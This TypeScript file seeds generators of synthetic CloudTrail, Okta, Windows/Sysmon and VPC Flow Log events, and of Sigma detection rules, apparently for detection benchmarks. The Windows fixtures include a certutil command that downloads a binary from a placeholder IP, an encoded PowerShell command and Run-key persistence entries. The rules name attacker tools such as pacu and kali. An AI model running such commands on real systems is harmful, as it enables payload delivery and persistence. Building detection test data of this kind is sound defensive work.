/**
 * Seeded generators of vendor-format telemetry (CloudTrail, Okta System Log,
 * Windows/Sysmon event JSON, VPC Flow Logs) and of Sigma rules over
 * CloudTrail, for the benchmarks and the fuzz suites. Everything is written
 * here, from the vendors' documented formats; nothing is copied from rule or
 * log collections. Same seed, same output.
 */

/** mulberry32: small, fast, deterministic. */
export class Rng {
  private s: number;
  constructor(seed: number) {
    this.s = seed >>> 0;
  }
  next(): number {
    let t = (this.s = (this.s + 0x6d2b79f5) >>> 0);
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  int(lo: number, hi: number): number {
    return lo + Math.floor(this.next() * (hi - lo + 1));
  }
  pick<T>(xs: readonly T[]): T {
    return xs[Math.floor(this.next() * xs.length)];
  }
  /** Zipf-like pick: low indexes much more often (real API traffic is dominated by a few calls). */
  skewed<T>(xs: readonly T[]): T {
    const u = this.next();
    return xs[Math.min(xs.length - 1, Math.floor(xs.length * u * u * u))];
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  hex(n: number): string {
    let s = '';
    for (let i = 0; i < n; i++) s += '0123456789abcdef'[this.int(0, 15)];
    return s;
  }
  uuid(): string {
    return `${this.hex(8)}-${this.hex(4)}-4${this.hex(3)}-${this.pick(['8', '9', 'a', 'b'])}${this.hex(3)}-${this.hex(12)}`;
  }
  upper(n: number): string {
    let s = '';
    for (let i = 0; i < n; i++) s += 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[this.int(0, 31)];
    return s;
  }
}

// ---------------------------------------------------------------- CloudTrail

/** Services and the nouns their APIs act on: the event-name space is service × verb × noun, a few thousand names as in AWS. */
const SERVICES: ReadonlyArray<readonly [string, readonly string[]]> = [
  ['ec2', ['Instances', 'SecurityGroups', 'Volumes', 'Snapshots', 'Images', 'KeyPairs', 'Vpcs', 'Subnets', 'RouteTables', 'NetworkInterfaces', 'Addresses', 'FlowLogs']],
  ['iam', ['User', 'Role', 'Policy', 'AccessKey', 'Group', 'LoginProfile', 'RolePolicy', 'UserPolicy', 'InstanceProfile', 'MFADevice', 'SAMLProvider']],
  ['s3', ['Bucket', 'BucketPolicy', 'BucketAcl', 'Object', 'BucketEncryption', 'BucketLogging', 'BucketVersioning', 'PublicAccessBlock', 'BucketReplication']],
  ['sts', ['Role', 'SessionToken', 'CallerIdentity', 'FederationToken', 'RoleWithSAML', 'RoleWithWebIdentity']],
  ['cloudtrail', ['Trail', 'EventSelectors', 'Logging', 'TrailStatus', 'InsightSelectors', 'EventDataStore']],
  ['kms', ['Key', 'Alias', 'Grant', 'KeyPolicy', 'KeyRotation', 'KeyDeletion']],
  ['lambda', ['Function', 'FunctionConfiguration', 'FunctionUrlConfig', 'Permission', 'Layer', 'EventSourceMapping', 'Alias']],
  ['rds', ['DBInstance', 'DBSnapshot', 'DBCluster', 'DBClusterSnapshot', 'DBParameterGroup', 'DBSubnetGroup']],
  ['guardduty', ['Detector', 'Filter', 'IPSet', 'ThreatIntelSet', 'Members', 'PublishingDestination']],
  ['config', ['ConfigurationRecorder', 'DeliveryChannel', 'ConfigRule', 'ConformancePack', 'ConfigurationAggregator']],
  ['logs', ['LogGroup', 'LogStream', 'RetentionPolicy', 'SubscriptionFilter', 'MetricFilter', 'Destination']],
  ['secretsmanager', ['Secret', 'SecretValue', 'ResourcePolicy', 'RotationSchedule']],
  ['ssm', ['Parameter', 'Document', 'Session', 'Association', 'MaintenanceWindow', 'Inventory']],
  ['organizations', ['Account', 'OrganizationalUnit', 'Policy', 'Handshake', 'DelegatedAdministrator']],
  ['sso', ['PermissionSet', 'AccountAssignment', 'InstanceAccessControlAttributeConfiguration']],
  ['ecr', ['Repository', 'RepositoryPolicy', 'Image', 'LifecyclePolicy', 'RegistryPolicy']],
  ['eks', ['Cluster', 'Nodegroup', 'AccessEntry', 'Addon', 'FargateProfile']],
  ['sns', ['Topic', 'Subscription', 'TopicAttributes', 'PlatformApplication']],
  ['sqs', ['Queue', 'QueueAttributes', 'Permission']],
  ['route53', ['HostedZone', 'ResourceRecordSets', 'HealthCheck', 'QueryLoggingConfig']],
  ['cloudwatch', ['Alarms', 'Dashboard', 'MetricStream', 'AnomalyDetector']],
  ['elasticloadbalancing', ['LoadBalancer', 'Listener', 'TargetGroup', 'Rule']],
  ['dynamodb', ['Table', 'Backup', 'GlobalTable', 'ContinuousBackups', 'ResourcePolicy']],
  ['securityhub', ['Hub', 'StandardsSubscription', 'Insight', 'ActionTarget', 'Findings']],
  ['access-analyzer', ['Analyzer', 'ArchiveRule', 'Finding']],
  ['backup', ['BackupVault', 'BackupPlan', 'BackupSelection', 'RecoveryPoint']],
  ['glue', ['Database', 'Table', 'Crawler', 'Job', 'Connection']],
  ['athena', ['WorkGroup', 'NamedQuery', 'DataCatalog', 'QueryExecution']],
  ['redshift', ['Cluster', 'ClusterSnapshot', 'ClusterParameterGroup']],
  ['cloudformation', ['Stack', 'StackSet', 'ChangeSet', 'StackInstances']],
  ['apigateway', ['RestApi', 'Deployment', 'Stage', 'ApiKey', 'Authorizer']],
  ['wafv2', ['WebACL', 'IPSet', 'RuleGroup', 'LoggingConfiguration']],
  ['signin', ['ConsoleLogin', 'SwitchRole', 'ExternalIdPDirectoryLogin']],
];
const VERBS = ['Describe', 'Get', 'List', 'Create', 'Delete', 'Update', 'Put', 'Modify', 'Attach', 'Detach', 'Start', 'Stop', 'Enable', 'Disable', 'Tag', 'Untag'];

export interface ApiCall {
  service: string;
  eventSource: string;
  eventName: string;
}

function eventSourceOf(service: string): string {
  return service === 'signin' ? 'signin.amazonaws.com' : `${service}.amazonaws.com`;
}

/** Every API call name of the generator's space. */
export function apiCatalogue(): ApiCall[] {
  const out: ApiCall[] = [];
  for (const [service, nouns] of SERVICES) for (const verb of VERBS) for (const noun of nouns) out.push({ service, eventSource: eventSourceOf(service), eventName: `${verb}${noun}` });
  return out;
}

const REGIONS = ['us-east-1', 'us-east-2', 'us-west-2', 'eu-west-1', 'eu-central-1', 'ap-southeast-2', 'sa-east-1'];
const ACCOUNTS = ['111122223333', '444455556666', '777788889999', '210987654321'];
const USERS = ['ops-admin', 'alice', 'bob', 'deploy-bot', 'ci-runner', 'backup-svc', 'carol', 'terraform', 'dave', 'security-audit', 'eve', 'finance-ro'];
const ROLES = ['OrganizationAccountAccessRole', 'AWSReservedSSO_AdministratorAccess_1a2b3c4d', 'github-actions-deploy', 'lambda-exec', 'ReadOnly', 'BreakGlass'];
const AGENTS = [
  'aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64.ubuntu.22',
  'aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.173.0',
  'Boto3/1.34.144 md/Botocore#1.34.144 ua/2.0 os/linux#6.1.0 md/arch#x86_64 lang/python#3.12.4',
  'console.amazonaws.com',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'aws-sdk-js/3.600.0 ua/2.0 os/linux#5.10 lang/js md/nodejs#20.15.0 api/s3#3.600.0',
  'Terraform/1.8.5 (+https://www.terraform.io) terraform-provider-aws/5.57.0',
  'cloudformation.amazonaws.com',
  'python-requests/2.31.0',
];
/** What an attacker's tooling writes; rare in the generated traffic. */
const ATTACKER_AGENT = 'kali-linux pacu/1.5.2';
const ERRORS = ['AccessDenied', 'UnauthorizedOperation', 'Client.UnauthorizedOperation', 'NoSuchEntity', 'ThrottlingException', 'InvalidParameterValue'];

function ip(r: Rng): string {
  return r.chance(0.2) ? `10.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}` : `${r.pick([198, 203, 192, 52, 54, 18, 3])}.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}`;
}

function iso(ms: number): string {
  return new Date(ms).toISOString().replace(/\.\d{3}Z$/, 'Z');
}

const BASE_TIME = Date.UTC(2026, 2, 2, 9, 0, 0);

function requestParameters(r: Rng, call: ApiCall, user: string): Record<string, unknown> | null {
  if (/^(Describe|List)/.test(call.eventName)) return r.chance(0.5) ? null : { maxResults: r.pick([50, 100, 1000]), filterSet: {} };
  switch (call.service) {
    case 'iam':
      return { userName: r.chance(0.3) ? user : r.pick(USERS), policyArn: `arn:aws:iam::aws:policy/${r.pick(['AdministratorAccess', 'ReadOnlyAccess', 'PowerUserAccess', 'SecurityAudit'])}` };
    case 's3':
      return { bucketName: `${r.pick(['logs', 'data', 'backup', 'web', 'cur'])}-${r.hex(6)}`, Host: 's3.amazonaws.com', key: r.chance(0.5) ? `exports/${r.hex(8)}.csv` : undefined };
    case 'ec2':
      return { instancesSet: { items: [{ instanceId: `i-0${r.hex(16)}` }] }, groupId: `sg-0${r.hex(16)}`, ipPermissions: r.chance(0.2) ? { items: [{ ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] }, fromPort: r.pick([22, 3389, 443]) }] } : undefined };
    case 'cloudtrail':
      return { name: `arn:aws:cloudtrail:us-east-1:111122223333:trail/${r.pick(['org-trail', 'management', 'security'])}` };
    case 'kms':
      return { keyId: `arn:aws:kms:us-east-1:111122223333:key/${r.uuid()}`, pendingWindowInDays: r.chance(0.3) ? 7 : undefined };
    case 'sts':
      return { roleArn: `arn:aws:iam::${r.pick(ACCOUNTS)}:role/${r.pick(ROLES)}`, roleSessionName: `${user}-${r.hex(6)}`, durationSeconds: 3600 };
    default:
      return { name: `${call.service}-${r.hex(6)}`, tags: r.chance(0.3) ? [{ key: 'env', value: r.pick(['prod', 'dev', 'staging']) }] : undefined };
  }
}

/** A bare CloudTrail record (as in a log file's Records array). */
export function cloudTrailRecord(r: Rng, calls: readonly ApiCall[], i: number, override?: Partial<ApiCall>): Record<string, unknown> {
  const call = { ...r.skewed(calls), ...override };
  const account = r.pick(ACCOUNTS);
  const assumed = r.chance(0.45);
  const user = r.pick(USERS);
  const root = !assumed && r.chance(0.03);
  const t = BASE_TIME + i * 137 + r.int(0, 999);
  const identity: Record<string, unknown> = root
    ? { type: 'Root', principalId: account, arn: `arn:aws:iam::${account}:root`, accountId: account, accessKeyId: `ASIA${r.upper(16)}` }
    : assumed
      ? {
          type: 'AssumedRole',
          principalId: `AROA${r.upper(17)}:${user}`,
          arn: `arn:aws:sts::${account}:assumed-role/${r.pick(ROLES)}/${user}`,
          accountId: account,
          accessKeyId: `ASIA${r.upper(16)}`,
          sessionContext: {
            sessionIssuer: { type: 'Role', principalId: `AROA${r.upper(17)}`, arn: `arn:aws:iam::${account}:role/${r.pick(ROLES)}`, accountId: account, userName: r.pick(ROLES) },
            attributes: { creationDate: iso(t - 600_000), mfaAuthenticated: r.chance(0.5) ? 'true' : 'false' },
          },
        }
      : {
          type: 'IAMUser',
          principalId: `AIDA${r.upper(17)}`,
          arn: `arn:aws:iam::${account}:user/${user}`,
          accountId: account,
          accessKeyId: `AKIA${r.upper(16)}`,
          userName: user,
        };
  const rec: Record<string, unknown> = {
    eventVersion: '1.09',
    userIdentity: identity,
    eventTime: iso(t),
    eventSource: call.eventSource,
    eventName: call.eventName,
    awsRegion: r.pick(REGIONS),
    sourceIPAddress: r.chance(0.05) ? `${call.service}.amazonaws.com` : ip(r),
    userAgent: r.chance(0.002) ? ATTACKER_AGENT : r.skewed(AGENTS),
    requestParameters: requestParameters(r, call, user),
    responseElements: /^(Create|Put|Update)/.test(call.eventName) ? { requestId: r.uuid(), status: 'OK' } : null,
    requestID: r.uuid(),
    eventID: r.uuid(),
    readOnly: /^(Describe|Get|List)/.test(call.eventName),
    eventType: call.service === 'signin' ? 'AwsConsoleSignIn' : 'AwsApiCall',
    managementEvent: true,
    recipientAccountId: account,
    eventCategory: 'Management',
    tlsDetails: { tlsVersion: 'TLSv1.3', cipherSuite: 'TLS_AES_128_GCM_SHA256', clientProvidedHostHeader: `${call.service}.${r.pick(REGIONS)}.amazonaws.com` },
  };
  if (r.chance(0.06)) {
    rec.errorCode = r.pick(ERRORS);
    rec.errorMessage = `User: ${identity.arn as string} is not authorized to perform: ${call.service}:${call.eventName}`;
  }
  if (call.service === 'signin') {
    rec.additionalEventData = { LoginTo: 'https://console.aws.amazon.com/console/home', MobileVersion: 'No', MFAUsed: r.chance(0.8) ? 'Yes' : 'No' };
    rec.responseElements = { ConsoleLogin: r.chance(0.9) ? 'Success' : 'Failure' };
  }
  return rec;
}

/** The EventBridge envelope AWS puts on the default bus ("AWS API Call via CloudTrail"). */
export function cloudTrailEnvelope(detail: Record<string, unknown>, r: Rng): Record<string, unknown> {
  const signin = detail.eventType === 'AwsConsoleSignIn';
  return eventBridgeEvent(r, {
    detailType: signin ? 'AWS Console Sign In via CloudTrail' : 'AWS API Call via CloudTrail',
    source: `aws.${String(detail.eventSource).split('.')[0]}`,
    account: detail.recipientAccountId,
    time: detail.eventTime,
    region: detail.awsRegion,
    detail,
  });
}

/** An event as EventBridge delivers it (the default bus's envelope around an AWS service's `detail`). */
export function eventBridgeEvent(
  r: Rng,
  e: { detailType: string; source: string; account: unknown; time: unknown; region: unknown; resources?: string[]; detail: unknown },
): Record<string, unknown> {
  return {
    version: '0',
    id: r.uuid(),
    'detail-type': e.detailType,
    source: e.source,
    account: e.account,
    time: e.time,
    region: e.region,
    resources: e.resources ?? [],
    detail: e.detail,
  };
}

// ---------------------------------------------------------------- Okta

const OKTA_TYPES = [
  ['user.session.start', 'User login to Okta'],
  ['user.authentication.sso', 'User single sign on to app'],
  ['user.authentication.auth_via_mfa', 'Authentication of user via MFA'],
  ['user.mfa.factor.deactivate', 'Reset factor for user'],
  ['user.account.lock', 'Max sign in attempts exceeded'],
  ['policy.evaluate_sign_on', 'Evaluation of sign-on policy'],
  ['user.session.end', 'User logout from Okta'],
  ['group.user_membership.add', 'Add user to group membership'],
  ['user.account.update_password', 'User update password for Okta'],
  ['application.user_membership.add', 'Add user to application membership'],
] as const;

export function oktaEvent(r: Rng, i: number): Record<string, unknown> {
  const [eventType, displayMessage] = r.skewed(OKTA_TYPES);
  const user = r.pick(USERS);
  const ok = r.chance(0.85);
  return {
    uuid: r.uuid(),
    published: new Date(BASE_TIME + i * 211 + r.int(0, 999)).toISOString(),
    eventType,
    version: '0',
    severity: ok ? 'INFO' : 'WARN',
    legacyEventType: ok ? 'core.user_auth.login_success' : 'core.user_auth.login_failed',
    displayMessage,
    actor: { id: `00u${r.hex(17)}`, type: 'User', alternateId: `${user}@example.com`, displayName: user, detailEntry: null },
    client: {
      userAgent: { rawUserAgent: r.pick(AGENTS), os: r.pick(['Mac OS X', 'Windows 10', 'Linux', 'iOS']), browser: r.pick(['CHROME', 'SAFARI', 'FIREFOX', 'EDGE']) },
      zone: 'null',
      device: r.pick(['Computer', 'Mobile']),
      id: null,
      ipAddress: ip(r),
      geographicalContext: { city: r.pick(['Lisbon', 'Berlin', 'Austin', 'Sydney']), state: 'x', country: r.pick(['Portugal', 'Germany', 'United States', 'Australia']), postalCode: String(r.int(1000, 99999)), geolocation: { lat: r.int(-80, 80) + 0.5, lon: r.int(-170, 170) + 0.25 } },
    },
    device: null,
    authenticationContext: { authenticationProvider: 'OKTA_AUTHENTICATION_PROVIDER', credentialProvider: null, credentialType: r.pick(['PASSWORD', 'OTP', null]), issuer: null, interface: null, authenticationStep: 0, externalSessionId: r.hex(24) },
    outcome: { result: ok ? 'SUCCESS' : r.pick(['FAILURE', 'DENY']), reason: ok ? null : r.pick(['INVALID_CREDENTIALS', 'VERIFICATION_ERROR', 'LOCKED_OUT']) },
    target: r.chance(0.5) ? [{ id: `0oa${r.hex(17)}`, type: 'AppInstance', alternateId: r.pick(['AWS SSO', 'Slack', 'GitHub']), displayName: 'app', detailEntry: null }] : null,
    transaction: { type: 'WEB', id: r.hex(24), detail: {} },
    debugContext: { debugData: { requestId: r.hex(24), requestUri: '/idp/idx/identify', url: '/idp/idx/identify?' } },
    securityContext: { asNumber: r.int(1000, 65000), asOrg: r.pick(['amazon', 'comcast', 'google', 'ovh']), isp: 'isp', domain: 'example.net', isProxy: r.chance(0.05) },
    request: { ipChain: [{ ip: ip(r), version: 'V4', source: null }] },
  };
}

// ---------------------------------------------------------------- Windows

const IMAGES = [
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  'C:\\Windows\\System32\\cmd.exe',
  'C:\\Windows\\System32\\rundll32.exe',
  'C:\\Windows\\explorer.exe',
  'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  'C:\\Windows\\System32\\svchost.exe',
  'C:\\Windows\\System32\\certutil.exe',
  'C:\\Users\\alice\\AppData\\Local\\Temp\\upd4te.exe',
];
const CMDS = ['-NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA', '/c whoami /all', 'shell32.dll,Control_RunDLL', '-urlcache -split -f http://203.0.113.9/a.bin', '--type=renderer', '-k netsvcs -p'];

export function windowsEvent(r: Rng, i: number): Record<string, unknown> {
  const sysmon = r.chance(0.7);
  const id = sysmon ? r.skewed([1, 3, 11, 13, 22, 7, 12]) : r.pick([4624, 4625, 4688, 4672, 4720]);
  const image = r.pick(IMAGES);
  const parent = r.pick(IMAGES);
  const host = `WS-${String(r.int(1, 400)).padStart(3, '0')}.corp.example.com`;
  const user = `CORP\\${r.pick(USERS)}`;
  const t = new Date(BASE_TIME + i * 97 + r.int(0, 999)).toISOString().replace('Z', '123Z');
  let data: Record<string, unknown>;
  if (!sysmon) {
    data =
      id === 4688
        ? { SubjectUserSid: 'S-1-5-21-1-2-3-1104', SubjectUserName: user.slice(5), SubjectDomainName: 'CORP', SubjectLogonId: `0x${r.hex(5)}`, NewProcessId: `0x${r.hex(4)}`, NewProcessName: image, TokenElevationType: '%%1936', ProcessId: `0x${r.hex(4)}`, CommandLine: `"${image}" ${r.pick(CMDS)}`, ParentProcessName: parent }
        : { SubjectUserSid: 'S-1-5-18', SubjectUserName: `${host.split('.')[0]}$`, SubjectDomainName: 'CORP', TargetUserName: user.slice(5), TargetDomainName: 'CORP', LogonType: r.pick([2, 3, 10]), IpAddress: ip(r), IpPort: r.int(1024, 65535), WorkstationName: host.split('.')[0], LogonProcessName: 'NtLmSsp', AuthenticationPackageName: 'NTLM', Status: id === 4625 ? '0xc000006d' : undefined };
  } else if (id === 3) {
    data = { RuleName: '-', UtcTime: t, ProcessGuid: `{${r.uuid()}}`, ProcessId: r.int(100, 9999), Image: image, User: user, Protocol: 'tcp', Initiated: 'true', SourceIp: `10.0.${r.int(0, 9)}.${r.int(2, 250)}`, SourcePort: r.int(49152, 65535), DestinationIp: ip(r), DestinationPort: r.pick([443, 80, 445, 3389, 8080]), DestinationHostname: r.pick(['example.com', '-', 'update.example.net']) };
  } else if (id === 11) {
    data = { RuleName: '-', UtcTime: t, ProcessGuid: `{${r.uuid()}}`, ProcessId: r.int(100, 9999), Image: image, TargetFilename: `C:\\Users\\${r.pick(USERS)}\\AppData\\Local\\Temp\\${r.hex(8)}.${r.pick(['exe', 'ps1', 'dll', 'tmp'])}`, CreationUtcTime: t, User: user };
  } else if (id === 13 || id === 12) {
    data = { RuleName: '-', EventType: id === 13 ? 'SetValue' : 'CreateKey', UtcTime: t, ProcessGuid: `{${r.uuid()}}`, ProcessId: r.int(100, 9999), Image: image, TargetObject: `HKU\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\${r.hex(6)}`, Details: `"${image}"`, User: user };
  } else if (id === 22) {
    data = { RuleName: '-', UtcTime: t, ProcessGuid: `{${r.uuid()}}`, ProcessId: r.int(100, 9999), QueryName: r.pick(['example.com', `${r.hex(12)}.ddns.example.net`, 'login.microsoftonline.com']), QueryStatus: '0', QueryResults: `::ffff:${ip(r)};`, Image: image, User: user };
  } else {
    data = {
      RuleName: '-',
      UtcTime: t,
      ProcessGuid: `{${r.uuid()}}`,
      ProcessId: r.int(100, 9999),
      Image: image,
      ImageLoaded: id === 7 ? 'C:\\Windows\\System32\\amsi.dll' : undefined,
      FileVersion: '10.0.19041.3996 (WinBuild.160101.0800)',
      OriginalFileName: image.split('\\').pop()?.toUpperCase(),
      CommandLine: `"${image}" ${r.pick(CMDS)}`,
      CurrentDirectory: 'C:\\Users\\alice\\',
      User: user,
      LogonId: `0x${r.hex(5)}`,
      IntegrityLevel: r.pick(['Medium', 'High', 'System']),
      Hashes: `SHA256=${r.hex(64).toUpperCase()}`,
      ParentProcessGuid: `{${r.uuid()}}`,
      ParentProcessId: r.int(100, 9999),
      ParentImage: parent,
      ParentCommandLine: `"${parent}"`,
    };
  }
  return {
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: { '#attributes': sysmon ? { Name: 'Microsoft-Windows-Sysmon', Guid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9' } : { Name: 'Microsoft-Windows-Security-Auditing', Guid: '54849625-5478-4994-A5BA-3E3B0328C30D' } },
        EventID: id,
        Version: 5,
        Level: 4,
        Task: 1,
        Opcode: 0,
        Keywords: '0x8000000000000000',
        TimeCreated: { '#attributes': { SystemTime: t } },
        EventRecordID: 100000 + i,
        Correlation: null,
        Execution: { '#attributes': { ProcessID: r.int(100, 9999), ThreadID: r.int(100, 9999) } },
        Channel: sysmon ? 'Microsoft-Windows-Sysmon/Operational' : 'Security',
        Computer: host,
        Security: { '#attributes': { UserID: 'S-1-5-18' } },
      },
      EventData: data,
    },
  };
}

// ---------------------------------------------------------------- VPC Flow Logs

export const VPC_V2_HEADER = 'version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status';

/** One line of the default (v2) VPC Flow Log format. */
export function vpcFlowLine(r: Rng, i: number): string {
  const start = Math.floor(BASE_TIME / 1000) + Math.floor(i / 50);
  if (r.chance(0.02)) return `2 ${r.pick(ACCOUNTS)} eni-0${r.hex(16)} - - - - - - - ${start} ${start + 60} - NODATA`;
  const inbound = r.chance(0.5);
  const local = `10.0.${r.int(0, 15)}.${r.int(2, 250)}`;
  const remote = ip(r);
  const svc = r.pick([443, 22, 3389, 53, 80, 5432, 8080]);
  const eph = r.int(32768, 65535);
  return [2, r.pick(ACCOUNTS), `eni-0${r.hex(16)}`, inbound ? remote : local, inbound ? local : remote, inbound ? eph : eph, svc, r.pick([6, 6, 6, 17]), r.int(1, 500), r.int(40, 900000), start, start + 60, r.chance(0.85) ? 'ACCEPT' : 'REJECT', 'OK'].join(' ');
}

// ---------------------------------------------------------------- Sigma rules over CloudTrail

const LEVELS = ['low', 'medium', 'medium', 'high', 'critical', 'informational'];
const TACTICS = ['defense_evasion', 'persistence', 'privilege_escalation', 'credential_access', 'discovery', 'exfiltration', 'impact', 'initial_access'];

/** A `startswith` value as rule authors write one: the call name, or it without a plural or version suffix; never just the verb. */
function prefixOf(name: string): string {
  const verb = /^[A-Z][a-z]+/.exec(name)?.[0] ?? '';
  return name.length - 2 > verb.length + 3 && name.endsWith('s') ? name.slice(0, -1) : name;
}

function yamlStr(s: string): string {
  return `'${s.replace(/'/g, "''")}'`;
}

/**
 * A varied, realistic CloudTrail Sigma rule, as YAML: most rules select on
 * eventSource/eventName (lists, several selections and `1 of selection_*`),
 * refine with contains/startswith/endswith on user agents, ARNs and request
 * parameters, sometimes exclude with a filter; a few carry a regular
 * expression or select only on identity, error code or agent (unindexable by
 * event name, as some SigmaHQ rules are).
 */
export function cloudTrailRule(r: Rng, n: number, calls: readonly ApiCall[]): string {
  const id = `00000000-0000-4000-8000-${n.toString(16).padStart(12, '0')}`;
  const sel: string[] = [];
  const kind = r.next();
  // Like SigmaHQ, rules mostly watch changes (Create, Delete, Stop, Put…), seldom reads.
  const pickCalls = (k: number) => {
    const svc = r.pick(calls).service;
    const reads = r.chance(0.1);
    const same = calls.filter((c) => c.service === svc && /^(Describe|Get|List)/.test(c.eventName) === reads);
    const out = new Set<string>();
    for (let j = 0; j < k; j++) out.add(r.pick(same).eventName);
    return { source: eventSourceOf(svc), names: [...out] };
  };
  const refinement = (): string[] => {
    switch (r.int(0, 7)) {
      case 0:
        return [`        userAgent|contains:`, ...r.pick([['pacu', 'kali'], ['python-requests'], ['Boto3', 'botocore'], ['Terraform']]).map((x) => `            - ${yamlStr(x)}`)];
      case 1:
        return [`        userIdentity.arn|contains: ${yamlStr(r.pick([':root', 'assumed-role/', 'user/deploy', 'BreakGlass']))}`];
      case 2:
        return [`        userIdentity.type: ${r.pick(['Root', 'IAMUser', 'AssumedRole'])}`];
      case 3:
        return [`        sourceIPAddress|startswith:`, `            - '198.51.'`, `            - '203.0.113.'`];
      case 4:
        return [`        requestParameters.policyArn|endswith: ${yamlStr(r.pick(['/AdministratorAccess', '/PowerUserAccess']))}`];
      case 5:
        return [`        errorCode: ${r.pick(ERRORS)}`];
      case 6:
        return [`        awsRegion|startswith: ${yamlStr(r.pick(['ap-', 'sa-', 'eu-']))}`];
      default:
        return [];
    }
  };
  let condition: string;
  if (kind < 0.55) {
    const { source, names } = pickCalls(r.int(1, 4));
    sel.push('    selection:', `        eventSource: ${source}`, '        eventName:', ...names.map((x) => `            - ${x}`), ...refinement());
    condition = 'selection';
    if (r.chance(0.35)) {
      sel.push('    filter_main:', `        userIdentity.arn|contains: ${yamlStr(r.pick(['role/github-actions-deploy', 'user/terraform', 'role/OrganizationAccountAccessRole']))}`);
      condition = 'selection and not filter_main';
    }
  } else if (kind < 0.85) {
    const k = r.int(2, 3);
    for (let j = 1; j <= k; j++) {
      const { source, names } = pickCalls(r.int(1, 3));
      sel.push(`    selection_${j}:`, `        eventSource: ${source}`, `        eventName|startswith:`, ...names.map((x) => `            - ${prefixOf(x)}`), ...refinement());
    }
    condition = r.chance(0.7) ? '1 of selection_*' : `1 of selection_* and not filter_bot`;
    if (condition.includes('filter_bot')) sel.push('    filter_bot:', `        userAgent|contains: ${yamlStr(r.pick(['cloudformation', 'Terraform']))}`);
  } else if (kind < 0.93) {
    const { source, names } = pickCalls(r.int(1, 2));
    sel.push('    selection:', `        eventSource: ${source}`, '        eventName:', ...names.map((x) => `            - ${x}`));
    sel.push('    selection_re:', `        requestParameters.name|re: ${yamlStr(r.pick(['^(prod|production)-[0-9a-f]{6}$', '(?i)backup', '^[a-z]+-[0-9a-f]{4,8}$', 'exfil|dump|temp[0-9]+']))}`);
    condition = 'selection and selection_re';
  } else {
    // No event name: what SigmaHQ writes for identity- or error-driven detections.
    switch (r.int(0, 3)) {
      case 0:
        sel.push('    selection:', '        userIdentity.type: Root', `        eventSource: ${r.pick(calls).eventSource}`, '    filter_console:', '        eventType: AwsConsoleSignIn');
        condition = 'selection and not filter_console';
        break;
      case 1:
        sel.push('    selection:', '        errorCode:', ...ERRORS.slice(0, r.int(1, 3)).map((e) => `            - ${e}`), `        userAgent|contains: ${yamlStr(r.pick(['pacu', 'kali', `scanner-${n}`]))}`);
        condition = 'selection';
        break;
      case 2:
        sel.push('    selection:', `        userAgent|re: ${yamlStr(r.pick([`(?i)(pacu|kali|parrot|tool${n})`, `^(python-requests|curl|wget)/${r.int(0, 3)}\\.[0-9.]+ x${n}$`]))}`);
        condition = 'selection';
        break;
      default:
        sel.push('    selection:', `        sourceIPAddress|cidr:`, `            - '203.0.113.0/24'`, `            - '198.51.100.0/24'`, '        readOnly: false');
        condition = 'selection';
    }
  }
  const tactic = r.pick(TACTICS);
  return [
    `title: Generated CloudTrail rule ${n} (${tactic.replace('_', ' ')})`,
    `id: ${id}`,
    'status: experimental',
    `description: Benchmark rule ${n}, generated.`,
    'author: serverless-mdr bench',
    'date: 2026-03-02',
    'tags:',
    `    - attack.${tactic}`,
    `    - attack.t${r.int(1000, 1600)}`,
    'logsource:',
    '    product: aws',
    '    service: cloudtrail',
    'detection:',
    ...sel,
    `    condition: ${condition}`,
    'falsepositives:',
    '    - Administrative activity',
    `level: ${r.pick(LEVELS)}`,
    '',
  ].join('\n');
}

/** `count` rule files over the given API catalogue, seeded. */
export function cloudTrailRuleFiles(count: number, seed = 7, calls = apiCatalogue()): { path: string; text: string }[] {
  const r = new Rng(seed);
  const out: { path: string; text: string }[] = [];
  for (let n = 0; n < count; n++) out.push({ path: `generated/rule-${String(n).padStart(5, '0')}.yml`, text: cloudTrailRule(r, n, calls) });
  return out;
}
